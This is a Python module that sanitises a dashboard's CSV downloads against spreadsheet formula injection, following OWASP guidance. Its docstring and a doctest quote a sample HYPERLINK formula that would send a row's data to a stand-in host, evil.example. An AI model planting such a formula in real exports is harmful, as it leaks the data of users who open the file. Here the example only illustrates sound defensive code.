"""CSV files offered for download, safe to open in a spreadsheet.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return as a formula: a customer id ``=HYPERLINK("http://evil.example/?leak="&C2, "Click")``
would send the row's data away when clicked. Following the OWASP guidance on CSV injection:

* :func:`csv_safe_text` puts a ``'`` before such text, which makes the spreadsheet show it
  as text; :func:`csv_safe_frame` applies it to every text cell and column name of a table.
* :func:`csv_file` writes every text cell in double quotes (embedded quotes doubled) and ends
  rows with CRLF, so that no separator (``,``, or ``;`` where a spreadsheet splits on it) and
  no line break inside a text, a bare carriage return included, can start a new cell.

Numbers stay numbers: numeric and boolean columns are written unquoted and unchanged
(``-12.5`` is a negative number, not a formula), dates as ISO text; text that is exactly a
plain decimal number such as ``-12.5`` or ``+3`` is also left as it is, as a spreadsheet reads
it as that number and it cannot call anything.

Every CSV download of the dashboard goes through :func:`csv_file`.
"""

from __future__ import annotations

import csv
import io
import re

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""

_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def csv_safe_text(value):
    """A cell as a spreadsheet should show it: text that could start a formula gets a ``'``.

    Parameters
    ----------
    value : object
        A cell. Only ``str`` values can change.

    Returns
    -------
    object
        ``"'" + value`` when ``value`` is text starting with one of :data:`FORMULA_STARTS`
        and is not a plain decimal number (``-12.5``, ``+3``, ``-1e5``); else ``value``
        unchanged (numbers, missing values and all other text).

    Examples
    --------
    >>> csv_safe_text('=HYPERLINK("http://evil.example/")')
    '\\'=HYPERLINK("http://evil.example/")'
    >>> csv_safe_text("-12.5"), csv_safe_text(-12.5), csv_safe_text("London - South")
    ('-12.5', -12.5, 'London - South')
    """
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_STARTS)
        and not _PLAIN_NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


def csv_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of a table whose text cells and column names went through :func:`csv_safe_text`.

    Parameters
    ----------
    frame : DataFrame
        A table as shown; never changed.

    Returns
    -------
    DataFrame
        The same rows and columns. Numeric, boolean, date and duration columns are unchanged;
        the other columns (object, string, categorical) hold their cells through
        :func:`csv_safe_text`.
    """
    safe = frame.copy()
    for position in range(safe.shape[1]):
        column = safe.iloc[:, position]
        dtype = column.dtype
        if (
            pd.api.types.is_numeric_dtype(dtype)
            or pd.api.types.is_bool_dtype(dtype)
            or pd.api.types.is_datetime64_any_dtype(dtype)
            or pd.api.types.is_timedelta64_dtype(dtype)
        ):
            continue
        safe.isetitem(position, column.astype(object).map(csv_safe_text))
    safe.columns = [csv_safe_text(name) for name in safe.columns]
    return safe


def csv_file(frame: pd.DataFrame) -> io.StringIO:
    """A table as a CSV file to download: every row, no index, safe in a spreadsheet.

    Parameters
    ----------
    frame : DataFrame
        The table as shown.

    Returns
    -------
    io.StringIO
        The text of :func:`csv_safe_frame` of ``frame``, positioned at its start: a header
        row, then one row per table row, rows ending in CRLF; text cells (and missing
        values) in double quotes, numbers and booleans bare. ``pandas.read_csv`` reads the
        same numbers back.
    """
    buffer = io.StringIO()
    csv_safe_frame(frame).to_csv(
        buffer, index=False, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n"
    )
    buffer.seek(0)
    return buffer
